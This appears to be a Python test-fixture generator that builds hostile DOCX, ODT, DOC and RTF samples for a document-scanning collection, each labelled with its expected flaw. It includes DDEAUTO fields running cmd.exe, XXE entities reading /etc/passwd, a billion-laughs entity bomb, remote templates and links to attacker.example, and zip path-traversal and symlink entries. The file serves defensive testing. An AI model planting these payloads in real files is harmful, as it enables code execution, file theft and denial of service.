"""Macros, objects, passwords, links that load by themselves, entities and names that lead out: DOCX, ODT, DOC and RTF."""
import archive
import office
import ole
import prose
import rtf

VBA = ole.compound(ole.Storage({"VBA": ole.Storage({"dir": b"x", "Module1": b"Sub AutoOpen()"}), "PROJECT": b"ID="}))
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
DTD = '<?xml version="1.0"?><!DOCTYPE d [{}]>'
XXE = '<!ENTITY x SYSTEM "file:///etc/passwd">'
LAUGHS = '<!ENTITY a "ha">' + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij"))


def add_to(collection):
    """Adds them all."""
    for family in (_macros, _docx, _fields, _odt, _doc, _rtf, _entities, _paths, _encrypted):
        for name, data, *flaws in family():
            collection.hostile(family.__name__[1:], name, data, *flaws)


def _macros():
    yield "macros.docm", office.docx(main=MACRO_MAIN, extra={"word/vbaProject.bin": VBA}), "macros"
    yield "docm called docx.docx", office.docx(main=MACRO_MAIN), "macros"
    yield "project without type.docx", office.docx(extra={"word/vbaProject.bin": VBA}), "macros"
    yield "project in capitals.docx", office.docx(extra={"word/VBAPROJECT.BIN": VBA}), "macros"
    yield "project renamed.docx", office.docx(extra={"word/a.bin": VBA}, rows=[("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "a.bin", False)]), "macros", "active_content"
    yield "project as picture.docx", office.docx(extra={"word/media/image1.png": VBA}), "active_content", "macros"
    yield "data.docx", office.docx(extra={"word/vbaData.xml": b"<a/>"}), "macros"
    yield "sheet.docx", office.docx(extra={"xl/macrosheets/sheet1.xml": b"<a/>"}), "macros"
    yield "ribbon.docx", office.docx(extra={"customUI/customUI14.xml": b"<a/>"}), "macros"
    yield "default type.docx", office.docx(types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'), "macros"
    yield "Basic.odt", office.odt(extra={"Basic/Standard/Module1.xml": b"<a/>"}), "macros"
    yield "Python.odt", office.odt(extra={"Scripts/python/a.py": b"print()"}), "macros"
    yield "Dialogs.odt", office.odt(extra={"Dialogs/a.xml": b"<a/>"}), "macros"
    yield "script.odt", office.odt(scripts='<office:scripts><office:script script:language="x"/></office:scripts>'), "macros"
    yield "macro link.odt", office.odt(body='<text:p><text:a xlink:href="vnd.sun.star.script:a.b?language=Basic">x</text:a></text:p>'), "macros"
    for storage in ("Macros", "_VBA_PROJECT_CUR", "MACROS", "VBA"):
        yield f"{storage}.doc", ole.doc(more={storage: ole.Storage({"VBA": ole.Storage({"dir": b"x"})})}), "macros"
    yield "deep.doc", ole.doc(more={"A": ole.Storage({"B": ole.Storage({"VBA": ole.Storage({"dir": b"x"})})})}), "macros"
    yield "stream.doc", ole.doc(more={"_VBA_PROJECT": b"x"}), "macros"


def _docx():
    act = "active_content"
    for kind in ("attachedTemplate", "image", "oleObject", "frame", "subDocument", "aFChunk", "package", "control", "settings"):
        yield f"outer {kind}.docx", office.docx(rows=[(kind, "https://attacker.example/a", True)]), act
    for target in ("file://attacker.example/share", "\\\\attacker.example\\share", "javascript:alert(1)", "ms-msdt:/id", "ms-word:ofe|u|x", "file:///C:/Windows/a.exe"):
        yield "outer link.docx", office.docx(rows=[("hyperlink", target, True)]), act
    yield "mode by reference.docx", office.docx(rows=[("image", "ht&#116;p://attacker.example/\" TargetMode=\"Exte&#114;nal", False)]), act
    yield "no mode.docx", office.docx(rows=[("image", "http://attacker.example/a", False)]), act
    yield "share without mode.docx", office.docx(rows=[("image", "\\\\attacker.example\\a", False)]), act
    template = office.relationships([("attachedTemplate", "https://attacker.example/a.dotm", True)])
    yield "settings.docx", office.docx(extra={"word/settings.xml": b"<a/>", "word/_rels/settings.xml.rels": template}), act
    # An attribute of a foreign namespace stands before the one that programs read.
    masked = template.replace(b"<Relationship ", b'<Relationship xmlns:z="urn:z" z:Type="z/hyperlink" z:Target="https://northgate.example/" ')
    yield "masked.docx", office.docx(extra={"word/settings.xml": b"<a/>", "word/_rels/settings.xml.rels": masked}), act
    yield "embedded workbook.docx", office.docx(extra={"word/embeddings/Microsoft_Excel_Sheet1.xlsx": office.docx()}), act
    yield "embedded object.docx", office.docx(extra={"word/embeddings/oleObject1.bin": ole.doc()}), act
    yield "object as picture.docx", office.docx(extra={"word/media/image1.emf": ole.doc()}), act
    yield "ActiveX.docx", office.docx(extra={"word/activeX/activeX1.xml": b"<a/>"}), act
    yield "object element.docx", office.docx(body="<w:p><w:object/></w:p>"), act
    yield "chunk element.docx", office.docx(body='<w:altChunk r:id="rId9"/>'), act
    yield "style sheet.docx", office.docx(head='<?xml version="1.0"?><?xml-stylesheet href="http://attacker.example/"?>'), act
    yield "web extension.docx", office.docx(extra={"word/webextensions/taskpanes.xml": b"<a/>"}), act
    yield "program.docx", office.docx(extra={"word/media/image1.png": b"MZ\x90\0" + bytes(60)}), "hidden_file"
    yield "elf.docx", office.docx(extra={"word/media/image1.png": b"\x7fELF" + bytes(60)}), "hidden_file"


def _runs(pieces):
    inner = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{inner}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def _fields():
    act = "active_content"
    yield "DDEAUTO.docx", office.docx(body=_runs([' DDEAUTO c:\\windows\\cmd.exe "/k calc" '])), act
    yield "DDE.docx", office.docx(body=_runs([" DDE excel a b "])), act
    yield "in pieces.docx", office.docx(body=_runs([" D", "DE", "AU", "TO c:\\a"])), act
    yield "small letters.docx", office.docx(body=_runs(["ddeauto a"])), act
    yield "by reference.docx", office.docx(body=_runs(["&#68;&#68;EAUTO a"])), act
    yield "simple.docx", office.docx(body='<w:fldSimple w:instr="DDEAUTO a b"/>'), act
    yield "include.docx", office.docx(body=_runs([' INCLUDETEXT "http://attacker.example/a" '])), act
    footer = f'{office.XML}<w:ftr xmlns:w="{office.W}">{_runs(["DDEAUTO a"])}</w:ftr>'
    yield "in footer.docx", office.docx(extra={"word/footer1.xml": footer.encode()}), act
    yield "DDE.doc", ole.doc(ole.word("Text \x13 DDEAUTO c:\\a \x14x\x15")), act
    yield "DDE wide.doc", ole.doc(ole.word("Text \x13 DDE a b\x15", wide=True)), act
    yield "DDE.rtf", rtf.rtf(body=r"{\field{\*\fldinst DDEAUTO c:\\a}{\fldrslt x}}"), act
    yield "DDE in pieces.rtf", rtf.rtf(body=r"{\field{\*\fldinst {\b D}{\i D}\'45AUTO c}{\fldrslt x}}"), act


def _odt():
    act = "active_content"
    for element in ('draw:plugin xlink:href="a"', "draw:applet", 'draw:floating-frame xlink:href="https://attacker.example/"', "office:dde-source", 'text:section-source xlink:href="a.odt"', "draw:object-ole", "script:event-listener", 'draw:image xlink:href="https://attacker.example/a.png"', 'draw:image xlink:href="file:///etc/passwd"', 'text:a xlink:href="javascript:alert(1)"', 'draw:image xlink:href="//attacker.example/a"', 'draw:image xlink:href="../a"', 'draw:image xmlns:z="urn:z" z:href="Pictures/a.png" xlink:href="https://attacker.example/a.png"'):
        yield f"{element.split()[0].replace(':', ' ')}.odt", office.odt(body=f"<text:p><{element}/></text:p>"), act
    yield "object.odt", office.odt(extra={"Object 1": ole.doc()}), act
    yield "program.odt", office.odt(extra={"Pictures/1.png": b"MZ" + bytes(90)}), "hidden_file"


def _doc():
    act = "active_content"
    pool = ole.Storage({"_1": ole.Storage({"\x01Ole10Native": b"x"})})
    yield "package.doc", ole.doc(more={"ObjectPool": pool}), act
    yield "object.doc", ole.doc(more={"ObjectPool": ole.Storage({"_2": ole.Storage({"\x01CompObj": b"x"})})}), act
    yield "equation.doc", ole.doc(more={"ObjectPool": ole.Storage({"_3": ole.Storage({"Equation Native": b"x"})})}), act
    yield "native at top.doc", ole.doc(more={"\x01Ole10Native": b"x"}), act
    yield "behind it.doc", ole.doc() + prose.noise(700), "polyglot"
    yield "workbook.doc", ole.compound(ole.Storage({"Workbook": b"x"})), "unknown_type"
    yield "presentation.doc", ole.compound(ole.Storage({"PowerPoint Document": b"x"})), "unknown_type"
    yield "message.doc", ole.compound(ole.Storage({"__properties_version1.0": b"x"})), "unknown_type"
    yield "not Word.doc", ole.doc(b"\0" * 4096), "damaged"


def _rtf():
    data = ole.doc().hex()[:4000]
    bodies = {
        "objdata": r"{\object\objemb{\*\objdata " + data + "}}",
        "linked": r"{\object\objautlink\rsltpict{\*\objclass Word.Document}{\*\objdata 01}}",
        "ocx": r"{\object\objocx{\*\objdata 01}}",
        "update": r"{\object\objupdate}",
        "capitals": r"{\OBJECT\OBJDATA 01}",
        "only data": r"{\*\objdata 01}",
        "raw bytes": r"{\pict\bin4 abcd}",
        "template": r"{\*\template http://attacker.example/a.dotm}",
        "html": r"{\object\objhtml}",
        "name": r"{\*\objname x}",
        "deep inside": "{" * 50 + r"{\*\objdata 01}" + "}" * 50,
        "number": r"{\object1\objdata2 01}",
        "include": r"{\field{\*\fldinst INCLUDETEXT a}{\fldrslt x}}",
        "link": r"{\field{\*\fldinst LINK Word.Document a}{\fldrslt x}}",
    }
    for name, body in bodies.items():
        yield f"{name}.rtf", rtf.rtf(body=body), "active_content"
    yield "long word.rtf", rtf.rtf(body="\\" + "a" * 300), "damaged"
    yield "zero.rtf", rtf.rtf(body="a\0b"), "damaged"
    yield "short head.rtf", b"{\\rt" + rtf.rtf()[6:], "unknown_type"


def _entities():
    act = "active_content"
    for name, dtd, use in (("outside", XXE, "&x;"), ("laughs", LAUGHS, "&j;"), ("empty", "", ""), ("parameter", '<!ENTITY % p SYSTEM "http://attacker.example/">%p;', "")):
        head = DTD.format(dtd)
        yield f"{name}.docx", office.docx([use], head=head), act
        yield f"{name}.odt", office.odt([use], head=head), act
        yield f"{name} elsewhere.docx", office.docx(extra={"docProps/core.xml": f"{head}<a>{use}</a>".encode()}), act
        yield f"{name} in types.docx", office.docx(extra={"[Content_Types].xml": f"{head}<Types/>".encode()}), act
    yield "outer document type.docx", office.docx(head='<!DOCTYPE d SYSTEM "http://attacker.example/a.dtd">'), act
    yield "unknown entity.docx", office.docx(["&secret;"]), act
    yield "utf-7.docx", office.docx(head='<?xml version="1.0" encoding="UTF-7"?>'), "damaged"
    yield "wide.docx", office.docx(extra={"word/a.xml": DTD.format(XXE).encode("utf-16")}), "damaged", act
    yield "not XML by name.docx", office.docx(extra={"word/media/a.png": DTD.format(XXE).encode() + b"<a/>"}), act


def _paths():
    names = ["../evil.txt", "word/../../evil", "/etc/passwd", "..\\..\\evil", "C:\\evil", "C:evil", "word/a\0.xml", "word/\r\nb", "./a", "word/..", "a" * 300, "word//../x", "", b"\xff\xfe.xml"]
    files = [archive.Part(name, data) for name, data in office.docx_files().items()]
    for name in names:
        yield "path.docx", archive.pack(files + [archive.Part(name, b"x")]), "unsafe_path"
    first = archive.Part("mimetype", office.ODT_TYPE, stored=True)
    for name in names[:4]:
        yield "path.odt", archive.pack([first, archive.Part(name, b"x")]), "unsafe_path"
    for kind in (0o120777, 0o020666, 0o010666):
        yield "link.docx", archive.pack(files + [archive.Part("word/a", b"/etc/passwd", system=3, attributes=kind << 16)]), "unsafe_path"
    twice = archive.Part("word/document.xml", b"<a/>")
    yield "twice.docx", archive.pack(files + [twice]), "damaged"
    yield "twice by case.docx", archive.pack(files + [archive.Part("Word/Document.xml", b"<a/>")]), "damaged"
    yield "two names.docx", archive.pack(files + [archive.Part("word/a.xml", b"<a/>", local_name=b"word/b.xml")]), "damaged"


def _encrypted():
    files = office.docx_files()
    locked = [archive.Part(name, data, flags=1) for name, data in files.items()]
    yield "classic.docx", archive.pack(locked), "encrypted"
    yield "one part.docx", archive.pack([archive.Part(name, data) for name, data in files.items()] + [archive.Part("word/a", b"x", flags=1)]), "encrypted"
    yield "AES.docx", archive.pack([archive.Part(name, data, flags=1, method=99) for name, data in files.items()]), "encrypted"
    yield "AES without flag.docx", archive.pack([archive.Part(name, data, method=99) for name, data in files.items()]), "encrypted"
    yield "plain archive.zip", archive.pack([archive.Part("a.txt", b"x", flags=1)]), "encrypted"
    package = ole.Storage({"EncryptedPackage": prose.noise(5000), "EncryptionInfo": b"x"})
    yield "by Word.docx", ole.compound(package), "encrypted"
    yield "by Word.doc", ole.doc(ole.word(flags=0x0100)), "encrypted"
    yield "scrambled.doc", ole.doc(ole.word(flags=0x8100)), "encrypted"
    key = '<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>'
    yield "by LibreOffice.odt", office.odt(manifest=key), "encrypted"
